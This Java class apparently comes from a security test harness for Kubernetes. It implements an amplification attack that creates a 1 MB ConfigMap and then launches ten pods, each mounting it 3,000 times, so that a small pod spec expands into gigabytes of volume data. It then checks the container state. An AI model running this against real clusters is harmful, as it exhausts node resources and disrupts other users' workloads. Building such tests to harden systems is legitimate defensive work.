package dev.stint.bench.attack;

import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** A pod of 92 KB whose volume would take 3 GB. */
final class ManyItems implements Attack {
  @Override
  public String name() {
    return "items";
  }

  @Override
  public String description() {
    return "3,000 items of one key of 1 MB, in 10 pods";
  }

  @Override
  public String run(Scene scene) throws Exception {
    scene
        .attacker()
        .must(
            "POST",
            Scene.CORE + "configmaps",
            "{\"metadata\":{\"name\":\"big\"},\"data\":{\"k\":\"%s\"}}"
                .formatted("x".repeat(1 << 20)));
    String items =
        IntStream.range(0, 3_000)
            .mapToObj("{\"key\":\"k\",\"path\":\"f%d\"}"::formatted)
            .collect(Collectors.joining(","));
    Answers answers =
        scene.sendAll(
            10, i -> scene.attacker().sendAsync("POST", Scene.CORE + "pods", pod(i, items)));
    Thread.sleep(15_000);
    return answers + ", then " + reason(scene);
  }

  private static String reason(Scene scene) {
    return scene
        .attacker()
        .get(Scene.CORE + "pods/items-0")
        .tree()
        .at("/status/containerStatuses/0/state")
        .toString();
  }

  private static String pod(int index, String items) {
    return """
    {"metadata": {"name": "items-%d"}, "spec": {"restartPolicy": "Never", "containers": [
     {"name": "main", "image": "none", "command": ["true"], "volumeMounts": [{"name": "v", "mountPath": "/v"}]}],
     "volumes": [{"name": "v", "configMap": {"name": "big", "items": [%s]}}]}}
    """
        .formatted(index, items);
  }
}
